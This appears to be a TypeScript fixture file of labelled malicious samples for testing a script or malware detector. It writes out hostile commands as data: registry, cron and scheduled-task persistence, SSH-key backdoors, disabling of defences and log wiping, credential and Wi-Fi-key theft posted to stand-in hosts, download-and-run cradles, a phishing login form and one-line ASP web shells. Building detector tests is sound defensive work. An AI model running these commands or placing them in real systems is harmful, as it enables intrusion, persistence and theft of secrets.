// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of shells
// The attacks beside lookalikes/operations.ts: the same deeds, at the place and in the way of an intruder.
import { type Suspect, text, wide } from './suspect.ts'

const lesson = wide("IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')")
const notebook = (...cells: readonly string[]): string =>
  JSON.stringify({
    cells: cells.map((source) => ({ cell_type: 'code', source })),
    metadata: { kernelspec: { language: 'python' } },
    nbformat: 4,
  })

export const operations: readonly Suspect[] = [
  text(
    'logon-public.bat',
    'suspicious',
    ['script_persists', 'script_conceals_itself'],
    '@echo off\r\nreg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Phone /t REG_SZ /d "C:\\Users\\Public\\phone.exe" /f >nul\r\nstart "" /min powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File "C:\\Users\\Public\\i.ps1"\r\n',
  ),
  text(
    'logon-webdav.bat',
    'suspicious',
    ['script_persists', 'script_conceals_itself'],
    '@echo off\r\nreg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Phone /t REG_SZ /d "C:\\Users\\Public\\phone.exe" /f >nul\r\nstart "" /min powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File "\\\\203.0.113.7\\share\\i.ps1"\r\n',
  ),
  text(
    'foyer-temp.vbs',
    'suspicious',
    ['script_persists', 'script_conceals_itself'],
    'Set sh = CreateObject("WScript.Shell")\r\nSet link = sh.CreateShortcut(sh.SpecialFolders("Startup") & "\\Foyer.lnk")\r\nlink.TargetPath = sh.ExpandEnvironmentStrings("%TEMP%") & "\\f.exe"\r\nlink.Save\r\nsh.Run "schtasks /create /tn Up /sc minute /tr C:\\Users\\Public\\f.exe /f", 0, True\r\n',
  ),
  text(
    'debugger.reg',
    'suspicious',
    ['script_persists'],
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe]\r\n"Debugger"="C:\\\\Windows\\\\System32\\\\cmd.exe"\r\n',
  ),
  text(
    'door.sh',
    'suspicious',
    ['script_persists', 'script_disables_defences', 'script_wipes_logs'],
    "#!/bin/sh\necho 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDf x' >> /root/.ssh/authorized_keys\niptables -F\nsetenforce 0\nunset HISTFILE; history -c\n",
  ),
  text(
    'loader-bin.sh',
    'suspicious',
    ['script_runs_download_from_temp'],
    '#!/bin/sh\ncurl -fsSL http://files.example/k -o /usr/bin/kthread && chmod 0755 /usr/bin/kthread && /usr/bin/kthread\n(crontab -l; echo "@reboot /usr/bin/kthread") | crontab -\n',
  ),
  text(
    'keys-out.sh',
    'suspicious',
    ['script_sends_secrets_away'],
    '#!/bin/bash\ncat ~/.ssh/id_rsa ~/.aws/credentials > /tmp/o\nssh -i ~/.ssh/id_rsa root@10.0.0.2 id\ncurl -s -X POST --data-binary @/tmp/o https://collect.example/in\n',
  ),
  text(
    'runs.ipynb',
    'malicious',
    ['script_runs_downloaded_text'],
    notebook(
      `import base64, subprocess\nsubprocess.run(['powershell', '-c', base64.b64decode('${lesson}').decode('utf-16le')])\n`,
    ),
  ),
  text(
    'runs-later.ipynb',
    'malicious',
    ['script_runs_downloaded_text'],
    notebook(
      `import base64\nline = base64.b64decode('${lesson}').decode('utf-16le')\n`,
      "import os\nos.system('powershell -c ' + line)\n",
    ),
  ),
  text(
    'wifi-away.html',
    'suspicious',
    ['html_asks_for_password'],
    '<html><head><title>Hotel - Guest WiFi</title></head><body><form method="post" action="http://203.0.113.7:8002/index.php?zone=guest"><input name="user"><input type="password" name="room"><input type="submit"></form></body></html>',
  ),
  text(
    'support-elsewhere.cmd',
    'malicious',
    ['script_drops_fetched_program'],
    '@echo off\r\nset EXE=%TEMP%\\Support.exe\r\ncertutil -urlcache -split -f https://download.teamviewer.com.files.example/q.exe "%EXE%" >nul\r\nbitsadmin /transfer s /download /priority foreground https://files.example/q.exe "%EXE%" >nul\r\nstart "" "%EXE%"\r\n',
  ),
  text(
    'fallback-away.js',
    'suspicious',
    ['script_runs_decoded_code'],
    'document.write(unescape("%3Cscript src=\'https://cdn.files.example/j.js\'%3E%3C/script%3E"));\n',
  ),
  text(
    'register-task.cmd',
    'suspicious',
    ['script_persists', 'script_conceals_itself'],
    '@echo off\r\nschtasks /create /tn "Update" /tr "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\u.ps1" /sc minute /mo 5 /f\r\nattrib +h C:\\Users\\Public\\u.ps1\r\n',
  ),
  text(
    'cron-fetch.sh',
    'suspicious',
    ['script_persists', 'script_pipes_download_to_shell'],
    '#!/bin/sh\ncurl -fsSL https://files.example/i | sh\n(crontab -l; echo "*/5 * * * * curl -fsSL https://files.example/i | sh") | crontab -\n',
  ),
  text(
    'marks-off.sh',
    'suspicious',
    ['script_disables_defences', 'script_wipes_logs'],
    '#!/bin/sh\nchattr -i /root/.ssh/authorized_keys\nsystemctl stop apparmor; setenforce 0; ufw disable\nrm -f /var/log/secure /var/log/wtmp; unset HISTFILE\necho "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDf x" >> /root/.ssh/authorized_keys\n',
  ),
  text(
    'tunnel.sh',
    'suspicious',
    ['script_uses_throwaway_host', 'script_runs_download_from_temp'],
    '#!/bin/sh\ncurl -s http://box7.duckdns.org/a -o /tmp/.a; chmod +x /tmp/.a; /tmp/.a\n',
  ),
  text(
    'wlan-away.ps1',
    'suspicious',
    ['script_steals_secrets', 'script_sends_secrets_away'],
    'netsh wlan export profile key=clear folder="$env:TEMP"\nInvoke-RestMethod https://files.example/in -Method Post -InFile "$env:TEMP\\Wi-Fi-home.xml"\n',
  ),
  text(
    'screen-away.sh',
    'suspicious',
    ['script_runs_downloaded_text'],
    '#!/bin/bash\npython3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://203.0.113.7/boot.py\').read())"\n',
  ),
  text(
    'scans-off.ps1',
    'suspicious',
    ['script_disables_defences'],
    'Set-MpPreference -DisableCatchupFullScan $true -DisableRealtimeMonitoring $true\n',
  ),
  text('short.asp', 'malicious', ['script_is_web_shell'], '<%execute request("a")%>\n'),
  text('short-2.asp', 'malicious', ['script_is_web_shell'], '<%eval(Request.Item("a"))%>\n'),
]
